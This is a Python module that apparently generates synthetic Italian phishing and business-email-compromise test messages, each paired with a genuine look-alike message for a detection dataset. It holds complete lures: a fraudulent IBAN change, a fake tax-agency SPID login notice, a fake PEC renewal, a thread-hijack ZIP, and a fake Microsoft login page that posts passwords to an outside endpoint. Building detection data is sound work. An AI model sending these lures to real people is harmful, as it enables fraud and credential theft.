"""Italian messages: attacks 17-21, business 17-21."""
import attach
import ids
import infra
from common import Mail, plain, alt, mixed, att, outlook_html, gmail_html, simple_html, brand_html, esc, quote_lines
from company import S, BANK, VAT
from util import utc, rng, uuid4, alnum, hexid, rfcdate

LANG = "it"

SIG_COLOMBO = """Cordiali saluti

Chiara Colombo
Ufficio Traffico Internazionale
Ferretti Trasporti S.p.A.
Via dell'Industria 18 - 24040 Osio Sotto (BG)
Tel. +39 035 418 2270 - Cell. +39 348 551 2093
www.ferretti-trasporti.it"""

FER_HOST = "mx.ferretti-trasporti.it"
FER_IP = "93.62.148.%d" % 21


def build():
    A, B = "attack", "business"
    davide, giulia = S["davide"], S["giulia"]
    fer_iban = BANK["ferretti"][2]

    # ================================================================ ATTACKS
    # A17 carrier bank change from look-alike domain (Google Workspace)
    t = utc(2026, 11, 9, 9, 47, 12)
    r = rng(A, 17)
    fraud = BANK["fraud_it"][2]
    txt = """Gentile Dott. Esposito,

con la presente La informiamo che, a seguito di una verifica fiscale attualmente in corso, il nostro conto presso Banco BPM \u00e8 temporaneamente sottoposto a vincolo e non pu\u00f2 ricevere accrediti.

Fino a nuova comunicazione La preghiamo pertanto di effettuare tutti i pagamenti a nostro favore esclusivamente sulle seguenti coordinate:

Intestatario: Ferretti Trasporti S.p.A.
IBAN: %s

Le chiediamo cortesemente di disporre gi\u00e0 entro venerd\u00ec il saldo delle fatture n. 2026/FT/04418 del 31/10/2026 e n. 2026/FT/04502 del 06/11/2026, per un totale di 9.846,30 \u20ac, cos\u00ec da evitare la sospensione dei ritiri programmati sulla tratta Milano-Norimberga.

In allegato trova la comunicazione ufficiale firmata dall'amministratore delegato. Per qualsiasi chiarimento pu\u00f2 rispondere direttamente a questa e-mail: in questi giorni siamo in trasferta e il centralino non \u00e8 presidiato.

La ringraziamo per la collaborazione.

""" % ids.iban_fmt(fraud) + SIG_COLOMBO
    letter = attach.pdf(["# Ferretti Trasporti S.p.A.", "Via dell'Industria 18 - 24040 Osio Sotto (BG) - P.IVA " + VAT["ferretti"][2:], "",
                         "Spett.le Example Dental Italia S.r.l.", "Viale Monza 265 - 20126 Milano", "",
                         "Osio Sotto, 09/11/2026", "", "# Oggetto: variazione coordinate bancarie", "",
                         "Con la presente comunichiamo che, con decorrenza immediata, tutti i pagamenti dovranno essere effettuati sul conto:",
                         "Intestatario: Ferretti Trasporti S.p.A.", "IBAN: " + ids.iban_fmt(fraud), "",
                         "Le precedenti coordinate non sono pi\u00f9 operative.", "", "Distinti saluti", "", "Roberto Ferretti - Amministratore Delegato"],
                        title="Variazione coordinate bancarie", author="Chiara Colombo", date="D:20261109100501+01'00'")
    rt = infra.gmail(r, t, zone="IT")
    Mail(A, 17, LANG, "ferretti-lookalike-variazione-iban", route=rt, frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.com"),
         to=[davide], subject="Comunicazione urgente: variazione coordinate bancarie Ferretti Trasporti S.p.A.",
         body=mixed(alt(txt, gmail_html(txt), "UTF-8", "base64", quote_cs=True),
                    att(letter, "application/pdf", "Comunicazione_variazione_IBAN_Ferretti.pdf")),
         hcs="UTF-8", henc="B",
         what="'Chiara Colombo, Ferretti Trasporti' says the carrier's bank account is frozen by a tax audit and asks to pay two invoices to a new IBAN by Friday",
         why="Look-alike domain ferretti-trasporti.com (real: ferretti-trasporti.it) hosted on Google Workspace; 'frozen account' story, new IBAN at an online institution, pressure with the threat of suspended pick-ups, phone line said to be unattended: carrier-impersonation BEC (hard negative: business 17).")

    # A18 SdI 'fattura scartata' phishing via Brevo, SPID credential theft
    t = utc(2026, 10, 15, 7, 12, 55)
    r = rng(A, 18)
    piva = VAT["example_it"][2:]
    click = "https://5wkq2.r.sp1-brevo.net/mk/cl/f/sh/%s" % alnum(r, 58, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    txt = """Agenzia delle Entrate - Fatture e Corrispettivi

Notifica di scarto

Gentile contribuente,

il file IT%s_0b7Kq.xml relativo alla fattura n. FPR 1184/26 del 13/10/2026 \u00e8 stato scartato dal Sistema di Interscambio.

Codice errore: 00305
Descrizione: IdFiscaleIVA del cessionario/committente non valido

La fattura si considera non emessa. Per evitare l'applicazione delle sanzioni previste dall'art. 6 del D.Lgs. 471/97 \u00e8 necessario verificare il dettaglio dello scarto e riemettere il documento entro 5 giorni dalla data della presente notifica.

Verifica il dettaglio dello scarto accedendo all'area riservata con SPID o CIE:
%s

Questo messaggio \u00e8 generato automaticamente, si prega di non rispondere.
""" % (piva, click)
    paras = ["Gentile contribuente,",
             "il file <b>IT%s_0b7Kq.xml</b> relativo alla fattura n. FPR 1184/26 del 13/10/2026 &egrave; stato <b>scartato</b> dal Sistema di Interscambio." % piva,
             "Codice errore: <b>00305</b><br>Descrizione: IdFiscaleIVA del cessionario/committente non valido",
             esc("La fattura si considera non emessa. Per evitare l'applicazione delle sanzioni previste dall'art. 6 del D.Lgs. 471/97 \u00e8 necessario verificare il dettaglio dello scarto e riemettere il documento entro 5 giorni dalla data della presente notifica.")]
    html = brand_html("Notifica di scarto - Sistema di Interscambio", paras, button=("Accedi con SPID / CIE", click),
                      footer="Questo messaggio &egrave; generato automaticamente, si prega di non rispondere.", color="#0066cc",
                      logo_text="Agenzia delle Entrate &middot; Fatture e Corrispettivi", lang="it")
    rt = infra.brevo(r, t, zone="IT")
    Mail(A, 18, LANG, "sdi-fattura-scartata-spid-brevo", route=rt,
         frm=("Agenzia delle Entrate - Fatture e Corrispettivi", "notifiche@fatturazione-agenziaentrate.it"), to=[davide],
         mail_from="bounces-4187263-davide.esposito=example.com@fatturazione-agenziaentrate.it",
         subject="Notifica di scarto fattura FPR 1184/26 - codice errore 00305",
         body=alt(txt, html, "utf-8", "quoted-printable"), hcs="utf-8", henc="Q",
         what="'Agenzia delle Entrate' notice that an electronic invoice was rejected by SdI; link to log in with SPID/CIE to see the details",
         why="SdI outcome notifications come through the e-invoicing channel or PEC, not as marketing mail via Brevo from a non-gov.it domain; the link (Brevo tracker) leads to a fake login that harvests SPID credentials; penalty threat and 5-day deadline (hard negative: business 19).")

    # A19 Aruba PEC renewal phishing from a compromised small Italian business (Aruba hosting)
    t = utc(2026, 11, 23, 14, 27, 40)
    r = rng(A, 19)
    land = "https://aruba-pec-rinnovi.com/area-clienti/rinnovo?pec=exampledentalitalia%40pec.it&ord=PEC-2026-771834"
    txt = """Gentile Cliente,

la casella PEC exampledentalitalia@pec.it associata al tuo account scadr\u00e0 il 30/11/2026.

Dopo la scadenza la casella verr\u00e0 sospesa: non potrai pi\u00f9 inviare n\u00e9 ricevere messaggi con valore legale (notifiche, fatture, comunicazioni della Pubblica Amministrazione) e i messaggi presenti verranno conservati per soli 30 giorni.

Per evitare l'interruzione del servizio rinnova ora con pagamento tramite carta di credito:
Rinnovo PEC Standard 1 anno: 6,50 \u20ac + IVA

Rinnova ora: %s

Grazie per aver scelto Aruba.
Servizio Clienti Aruba PEC
""" % land
    html = brand_html("La tua casella PEC \u00e8 in scadenza", [
        "Gentile Cliente,",
        "la casella PEC <b>exampledentalitalia@pec.it</b> associata al tuo account scadr&agrave; il <b>30/11/2026</b>.",
        "Dopo la scadenza la casella verr&agrave; sospesa: non potrai pi&ugrave; inviare n&eacute; ricevere messaggi con valore legale e i messaggi presenti verranno conservati per soli 30 giorni.",
        "Rinnovo PEC Standard 1 anno: <b>6,50 &euro; + IVA</b>"], button=("RINNOVA ORA", land),
        footer="Grazie per aver scelto Aruba. &copy; Aruba S.p.A. - P.IVA 01573850516", color="#e8501e", logo_text="aruba.it &middot; PEC", lang="it")
    inner = ["from agriturismo-lecolline.it ([%s])\n\tby smtp-%d.ad.aruba.it with ESMTPSA\n\tid %s; %s" % (
        "177.%d.%d.%d" % (r.randrange(0, 255), r.randrange(0, 255), r.randrange(1, 254)), r.randrange(10, 99), alnum(r, 17), rfcdate(t, "IT"))]
    rt = infra.generic_mta(r, t, "smtpcmd14146.aruba.it", "smtpcmd14146.aruba.it", "62.149.156.146", "agriturismo-lecolline.it", "IT",
                           inner=inner, ua="none", tls=infra.TLS12)
    rt.xh = [("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931")] if False else []
    Mail(A, 19, LANG, "aruba-pec-rinnovo-phishing", route=rt, frm=("Aruba PEC", "info@agriturismo-lecolline.it"), to=[giulia],
         reply_to=("Aruba PEC", "rinnovi@aruba-pec-rinnovi.com"),
         subject="La tua casella PEC exampledentalitalia@pec.it scade il 30/11/2026",
         body=alt(txt, html, "iso-8859-15", "quoted-printable"), hcs="iso-8859-15", henc="Q",
         what="'Aruba PEC' warns that the company's certified-mail box expires and asks to renew by card",
         why="Sent from the hijacked mailbox of an agritourism business on Aruba shared hosting (the From address is not Aruba's), reply-to and link point to the look-alike aruba-pec-rinnovi.com to steal card data; threat of losing legal-value mail.")

    # A20 thread hijack from the genuinely compromised libero.it mailbox of a customer, password ZIP
    t = utc(2026, 11, 26, 16, 3, 9)
    r = rng(A, 20)
    zipdata = attach.zip_zipcrypto([("Documento_2026_11_7781.pdf.js", attach.PLACEHOLDER)], "7781", r)
    orig = "<0a1f7e3c2b9d4c51a8e6f0d3b27c9e44@EXCH01.corp.example.com>"
    quoted = """Gentile Dott. Rossi,

le corone in zirconio per la paziente (ordine 2026-IT-0871) sono state rifatte nel colore A2 e partono domani con Ferretti, consegna prevista gioved\u00ec.
Nel frattempo le abbiamo emesso la nota di credito per la prima fornitura.

Cordiali saluti
Giulia Bernardi
Example Dental Italia S.r.l."""
    txt = """Buonasera,

in allegato il documento richiesto con i dettagli del pagamento e la nota di credito.

Il file \u00e8 protetto, password: 7781

Cordiali saluti
Studio Dentistico Dott. Marco Rossi

----Messaggio originale----
Da: giulia.bernardi@example.com
Data: 19/11/2026 11.42
A: <studiodentisticorossi@libero.it>
Ogg: Reclamo - corone in zirconio colore errato (ordine 2026-IT-0871)

""" + quoted
    rt = infra.libero(r, t)
    rt.received = ["from libero.it ([%s])\n\tby smtp-%d.iol.local with ESMTPA\n\tid %s; %s" % (
        "45.%d.%d.%d" % (r.choice([134, 155, 88]), r.randrange(0, 255), r.randrange(1, 254)), r.randrange(10, 60), alnum(r, 14), rfcdate(t, "IT"))]
    rt.xh = [x for x in rt.xh if x[0] not in ("X-Mailer", "X-Originating-IP")]
    rt.msgid = "<%s@libero.it>" % hexid(r, 24)
    Mail(A, 20, LANG, "threadhijack-libero-cliente-zip-password", route=rt,
         frm=("Studio Dentistico Rossi", "studiodentisticorossi@libero.it"), to=[giulia],
         subject="R: Reclamo - corone in zirconio colore errato (ordine 2026-IT-0871)", in_reply_to=orig, references=orig,
         body=mixed(plain(txt, "iso-8859-1", "8bit"), att(zipdata, "application/zip", "Documento_2026_11_7781.zip")),
         hcs="iso-8859-1", henc="Q",
         what="Reply in the real complaint thread from the customer's real libero.it mailbox: 'document with payment details', password-protected ZIP",
         why="The customer's mailbox is compromised: the reply is generic and does not fit the thread (no payment was pending), it was submitted over SMTP AUTH from a foreign hosting IP instead of Libero webmail, and the ZipCrypto archive (password in the body) holds a .pdf.js script placeholder. Typical thread-hijack malware delivery (hard negative: business 18).")

    # A21 HTML attachment with a fake Microsoft login form, from a compromised M365 tenant
    t = utc(2026, 12, 2, 8, 36, 21)
    r = rng(A, 21)
    form_html = """<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8">
<title>OneDrive - Preventivo_2027_ExampleDental.pdf</title>
<style>
body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2;margin:0}
.card{width:380px;margin:70px auto;background:#fff;padding:38px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 0;margin:10px 0 18px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 32px;font-size:15px;float:right}
.doc{background:#f3f6fb;padding:10px;margin-bottom:18px;font-size:13px}
</style>
</head>
<body>
<div class="card">
<div style="font-size:20px;color:#5e5e5e">Microsoft</div>
<h2 style="font-weight:600">Accedi per visualizzare il documento</h2>
<div class="doc">&#128196; Preventivo_2027_ExampleDental.pdf &middot; 412 KB<br>Condiviso da Ferri Odontotecnica</div>
<form method="post" action="https://odontotecnica-preventivi.workers.dev/auth/ms">
<input type="email" name="login" value="giulia.bernardi@example.com" readonly>
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="doc" value="PRV-2027-0114">
<button type="submit">Accedi</button>
</form>
<div style="clear:both"></div>
</div>
</body>
</html>
"""
    txt = """Buongiorno Giulia,

come anticipato telefonicamente al vostro ufficio, vi inviamo il preventivo aggiornato per il 2027 relativo alle lavorazioni in conto terzi (fresaggio zirconio e disilicato).

Il documento \u00e8 allegato in formato protetto: per aprirlo \u00e8 sufficiente accedere con le credenziali aziendali Microsoft.

Restiamo a disposizione.

Cordiali saluti

Alessandro Ferri
Ferri Odontotecnica S.n.c.
Via Cremona 41 - 25124 Brescia
"""
    rt = infra.m365(r, t, region="EU", org_domain="ferriodontotecnica.it", lang="it-IT", attach=True)
    Mail(A, 21, LANG, "html-allegato-login-microsoft-falso", route=rt, frm=("Alessandro Ferri", "a.ferri@ferriodontotecnica.it"),
         to=[giulia], subject="Preventivo 2027 lavorazioni CAD/CAM - Ferri Odontotecnica",
         body=mixed(alt(txt, outlook_html(txt, lang="IT"), "windows-1252", "quoted-printable"),
                    att(form_html.encode("utf-8"), "text/html; charset=utf-8", "Preventivo_2027_ExampleDental.pdf.html")),
         hcs="windows-1252", henc="Q",
         what="'Quote for 2027' from a small dental lab; the attachment Preventivo_2027_ExampleDental.pdf.html is a fake Microsoft sign-in page",
         why="HTML attachment disguised as a PDF (double extension) containing a Microsoft-styled login form pre-filled with the victim's address that posts the password to a workers.dev endpoint; sent from a compromised Microsoft 365 tenant of an unknown lab; 'phoned your office' pretext (hard negative: business 21).")

    # ================================================================ BUSINESS
    # B17 genuine Ferretti invoice (courtesy copy of SdI e-invoice)
    t = utc(2026, 11, 2, 10, 12, 40)
    r = rng(B, 17)
    pdfd = attach.pdf(["# Ferretti Trasporti S.p.A.", "Via dell'Industria 18 - 24040 Osio Sotto (BG)", "P.IVA " + VAT["ferretti"][2:] + " - REA BG-287413", "",
                       "Spett.le Example Dental Italia S.r.l.", "Viale Monza 265 - 20126 Milano - P.IVA " + VAT["example_it"][2:], "",
                       "# Fattura n. 2026/FT/04418 del 31/10/2026", "COPIA DI CORTESIA - documento trasmesso tramite SdI", "",
                       "Descrizione                                              Imponibile (EUR)",
                       "Groupage Milano-Norimberga, 14 spedizioni ottobre 2026         4.920,00",
                       "Supplemento carburante 8,5%                                      418,20",
                       "Totale imponibile                                             5.338,20",
                       "IVA 22% (servizio di trasporto internazionale: non imponibile art. 9 DPR 633/72)  0,00",
                       "Totale documento                                              5.338,20", "",
                       "Pagamento: bonifico 60 gg d.f.f.m. - scadenza 31/12/2026",
                       "Banco BPM S.p.A. - IBAN " + ids.iban_fmt(fer_iban)],
                      title="Fattura 2026/FT/04418", author="Ferretti Trasporti", producer="TeamSystem Enterprise", creator="TeamSystem Enterprise",
                      date="D:20261102111200+01'00'")
    txt = """Spett.le Example Dental Italia S.r.l.,

in allegato trasmettiamo copia di cortesia della fattura n. 2026/FT/04418 del 31/10/2026 (groupage Milano-Norimberga, ottobre 2026).
L'originale \u00e8 stato trasmesso tramite Sistema di Interscambio al Vostro codice destinatario.

Importo: 5.338,20 EUR - scadenza 31/12/2026
Coordinate: Banco BPM S.p.A. - IBAN %s

Distinti saluti

Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 18 - 24040 Osio Sotto (BG)
Tel. +39 035 418 2200 - amministrazione@ferretti-trasporti.it
""" % ids.iban_fmt(fer_iban)
    rt = infra.smb_postfix(r, t, FER_HOST, FER_IP, zone="IT", client_ip="10.1.0.14", client_rdns="erp.ferretti.local", ua="postfix",
                           domain="ferretti-trasporti.it")
    rt.xh = [("X-Mailer", "TeamSystem Enterprise - invio documenti")]
    Mail(B, 17, LANG, "ferretti-fattura-copia-cortesia", route=rt, frm=("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it"),
         to=[davide], subject="Invio copia di cortesia fattura n. 2026/FT/04418 del 31/10/2026",
         body=mixed(plain(txt, "iso-8859-1", "quoted-printable"), att(pdfd, "application/pdf", "Fattura_2026-FT-04418.pdf")),
         hcs="iso-8859-1", henc="Q",
         what="Courtesy copy of Ferretti Trasporti's October invoice (original sent through SdI), PDF",
         why="Genuine: carrier's own mail server and ERP, real domain, usual bank (Banco BPM, unchanged), matches real shipments and the SdI flow; no urgency. Hard negative of attack 17.")

    # B18 genuine complaint from customer (libero.it webmail)
    t = utc(2026, 11, 18, 17, 25, 3)
    r = rng(B, 18)
    txt = """Gentile Sig.ra Bernardi,

le scrivo per segnalare un problema con l'ultima fornitura (ordine 2026-IT-0871, consegnato il 16/11).

Le tre corone in zirconio monolitico per il 14-15-16 sono arrivate in colore A3 anzich\u00e9 A2 come indicato nella prescrizione e nella scheda colore allegata all'ordine. Ho dovuto rinviare la paziente, che aveva gi\u00e0 preso un giorno di ferie, e non \u00e8 la prima volta che succede quest'anno.

Vi chiedo di rifare i lavori con urgenza (la paziente \u00e8 stata riconvocata per il 27/11) e di emettere una nota di credito per la prima fornitura: non intendo pagare due volte lo stesso lavoro (320,00 \u20ac + IVA).

Resto in attesa di una sua risposta.

Dott. Marco Rossi
Studio Dentistico Rossi
Via Borgo Palazzo 112 - 24125 Bergamo
Tel. 035 241 8870
"""
    rt = infra.libero(r, t)
    Mail(B, 18, LANG, "reclamo-cliente-corone-colore", route=rt, frm=("Studio Dentistico Rossi", "studiodentisticorossi@libero.it"),
         to=[giulia], subject="Reclamo - corone in zirconio colore errato (ordine 2026-IT-0871)",
         body=plain(txt, "iso-8859-15", "quoted-printable"), hcs="iso-8859-15", henc="Q",
         what="Dentist complains that zirconia crowns came in the wrong shade and asks for remakes and a credit note",
         why="Genuine: known customer writing from his usual Libero webmail, specific order and clinical details, angry but asks for nothing unusual; no link or attachment. Hard negative of attack 20.")

    # B19 genuine e-invoicing intermediary notification (Aruba)
    t = utc(2026, 11, 12, 15, 40, 27)
    r = rng(B, 19)
    txt = """Gentile Cliente,

ti informiamo che nel servizio di Fatturazione Elettronica \u00e8 stata ricevuta tramite SdI una nuova fattura passiva:

Mittente: CERAMICHE DENTALI LOMBARDE S.R.L.
Numero: 418/2026
Data: 12/11/2026
Importo: 3.172,00 EUR
Identificativo SdI: 18471629305

Puoi visualizzarla accedendo al pannello dall'Area Clienti di Aruba.

Cordiali saluti,
Aruba S.p.A.

Questa \u00e8 una notifica automatica: ti preghiamo di non rispondere a questa e-mail.
"""
    html = brand_html("Nuova fattura ricevuta", [
        "Gentile Cliente,", "ti informiamo che nel servizio di Fatturazione Elettronica &egrave; stata ricevuta tramite SdI una nuova fattura passiva:",
        "Mittente: <b>CERAMICHE DENTALI LOMBARDE S.R.L.</b><br>Numero: 418/2026<br>Data: 12/11/2026<br>Importo: 3.172,00 EUR<br>Identificativo SdI: 18471629305",
        "Puoi visualizzarla accedendo al pannello dall'Area Clienti di Aruba."], button=None,
        footer="Questa &egrave; una notifica automatica: ti preghiamo di non rispondere a questa e-mail.<br>Aruba S.p.A. - Via San Clemente 53 - 24036 Ponte San Pietro (BG) - P.IVA 01573850516",
        color="#e8501e", logo_text="aruba.it &middot; Fatturazione Elettronica", lang="it")
    inner = ["from fe-notifiche02.aruba.it (fe-notifiche02.aruba.it [10.122.%d.%d])\n\tby smtpweb%d.aruba.it (Postfix) with ESMTP id %s\n\tfor <davide.esposito@example.com>; %s" % (
        r.randrange(0, 255), r.randrange(1, 254), 3, infra.postfix_short_qid(r), rfcdate(t, "IT", comment=True))]
    rt = infra.generic_mta(r, t, "smtpweb3.aruba.it", "smtpweb3.aruba.it", "62.149.158.%d" % 93, "fatturazioneelettronica.aruba.it", "IT",
                           inner=inner, ua="postfix")
    Mail(B, 19, LANG, "aruba-fe-fattura-passiva-ricevuta", route=rt,
         frm=("Aruba Fatturazione Elettronica", "noreply@fatturazioneelettronica.aruba.it"), to=[davide],
         subject="Fatturazione Elettronica: nuova fattura ricevuta da CERAMICHE DENTALI LOMBARDE S.R.L.",
         body=alt(txt, html, "utf-8", "quoted-printable"), hcs="utf-8", henc="Q",
         what="Notification from the company's e-invoicing intermediary that a supplier invoice arrived via SdI",
         why="Genuine: the intermediary's own mail servers and domain, known supplier, no login link, only a hint to use the usual customer area. Hard negative of attack 18.")

    # B20 genuine urgent payment reminder from Ferretti with suspension threat
    t = utc(2026, 12, 4, 8, 20, 55)
    r = rng(B, 20)
    txt = """Buongiorno Dott. Esposito,

dal nostro estratto conto risultano ancora aperte le seguenti fatture, gi\u00e0 scadute:

- n. 2026/FT/03871 del 30/09/2026 - 4.706,50 \u20ac - scaduta il 30/11/2026
- n. 2026/FT/03902 del 30/09/2026 - 1.118,00 \u20ac - scaduta il 30/11/2026

Vi chiediamo di provvedere al saldo entro il 11/12/2026 sulle coordinate di sempre (Banco BPM, IBAN %s). In mancanza di pagamento la direzione ci ha chiesto di sospendere i ritiri programmati per voi a partire dal 15/12, con le conseguenze che potete immaginare per le consegne di fine anno in Germania.

Se il pagamento \u00e8 gi\u00e0 partito, mandateci per favore la contabile cos\u00ec chiudiamo la pratica.

""" % ids.iban_fmt(fer_iban) + SIG_COLOMBO
    rt = infra.smb_postfix(r, t, FER_HOST, FER_IP, zone="IT", client_ip="93.62.148.40", client_rdns="fw.ferretti-trasporti.it", ua="outlook16",
                           domain="ferretti-trasporti.it")
    rt.xh = [x if x[0] != "Content-Language" else ("Content-Language", "it") for x in rt.xh]
    Mail(B, 20, LANG, "ferretti-sollecito-sospensione-ritiri", route=rt, frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"),
         to=[davide], cc=[giulia, ("Amministrazione", "amministrazione@ferretti-trasporti.it")],
         subject="Sollecito pagamento fatture scadute - sospensione ritiri dal 15/12",
         body=alt(txt, outlook_html(txt, lang="IT"), "windows-1252", "quoted-printable"), hcs="windows-1252", henc="Q",
         what="Carrier's urgent reminder for two overdue invoices, threatening to suspend pick-ups from 15 Dec",
         why="Genuine: Chiara Colombo's real address and the carrier's own server with her usual Outlook, payment to the long-known Banco BPM account, accounting department in Cc, asks for the remittance slip; pressure is ordinary dunning.")

    # B21 genuine SharePoint Online sharing notification (internal share)
    t = utc(2026, 12, 1, 13, 5, 44)
    r = rng(B, 21)
    link = "https://examplegroup.sharepoint.com/:x:/s/Milano/E%s?e=%s" % (alnum(r, 46), alnum(r, 6))
    txt = """Giulia Bernardi ha condiviso un file con te

Ecco il file con le rettifiche di magazzino, controlla le righe evidenziate prima della chiusura di fine anno. Grazie!

Inventario_magazzino_Milano_2026.xlsx

Apri: %s

Questo collegamento funziona solo per i destinatari diretti del messaggio.

Informativa sulla privacy di Microsoft: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % link
    html = brand_html("Giulia Bernardi ha condiviso un file con te", [
        "&ldquo;Ecco il file con le rettifiche di magazzino, controlla le righe evidenziate prima della chiusura di fine anno. Grazie!&rdquo;",
        "&#128196; <b>Inventario_magazzino_Milano_2026.xlsx</b>"], button=("Apri", link),
        after_button=["Questo collegamento funziona solo per i destinatari diretti del messaggio."],
        footer="<a href=\"https://go.microsoft.com/fwlink/?LinkId=521839\">Informativa sulla privacy</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
        color="#036c70", logo_text="SharePoint", lang="it")
    rt = infra.service(r, t, "sharepoint", region="EU", org="examplegroup.onmicrosoft.com", lang="it-IT")
    Mail(B, 21, LANG, "sharepoint-condivisione-interna-inventario", route=rt,
         frm=("Giulia Bernardi (tramite SharePoint Online)", "no-reply@sharepointonline.com"), to=[davide],
         reply_to=giulia, mail_from="no-reply@sharepointonline.com",
         subject="Giulia Bernardi ha condiviso \"Inventario_magazzino_Milano_2026\" con te",
         body=alt(txt, html, "utf-8", "base64"), hcs="utf-8", henc="B",
         what="SharePoint Online notification: colleague shares the Milan warehouse inventory spreadsheet",
         why="Genuine: Microsoft's SharePoint Online sender via Exchange Online Protection, link to the company's own tenant examplegroup.sharepoint.com, Reply-To is the colleague, content matches year-end inventory work. Hard negative of attack 21.")
